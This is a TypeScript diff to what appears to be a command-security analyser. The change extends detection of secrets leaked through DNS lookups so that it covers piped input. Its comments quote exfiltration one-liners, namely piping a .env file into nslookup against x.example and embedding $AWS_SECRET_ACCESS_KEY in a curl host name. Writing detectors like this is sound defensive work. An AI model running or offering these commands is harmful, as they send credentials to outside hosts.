@@ -9,6 +9,7 @@ import { secretRefs, SEND_ALT } from './common';
 import { substitutedSecret } from './substitutions';
 import { credentialIn, inputRedirects } from '../common/credentials';
 import { optionValues } from '../../command/args';
+import { credentialProducer } from './network';
 
 /** Programs that resolve the names they are given. */
 export const RESOLVERS = new Set([
@@ -48,7 +49,10 @@ export function dnsSecretFinding(name: string, cmd: SimpleCommand, ctx: Analysis
  */
 function batchFileSecret(name: string, cmd: SimpleCommand, ctx: AnalysisContext): string | undefined {
   const files = name === 'dig' || name === 'kdig' ? optionValues(cmd.argv, ['-f']) : [];
-  return credentialIn([...files, ...inputRedirects(cmd)], cmd, ctx)?.shown;
+  const hit = credentialIn([...files, ...inputRedirects(cmd)], cmd, ctx)?.shown;
+  // `cat .env | xargs -I{} nslookup {}.x.example`: one lookup per line of what is piped in.
+  const from = cmd.stdinOrigin ?? cmd.stdinFrom;
+  return hit ?? (cmd.repeated && from && cmd.dynamic.some(Boolean) ? credentialProducer(from, cmd, ctx) : undefined);
 }
 
 /** `curl https://$AWS_SECRET_ACCESS_KEY.x.example`: the host name is resolved before anything is sent. */
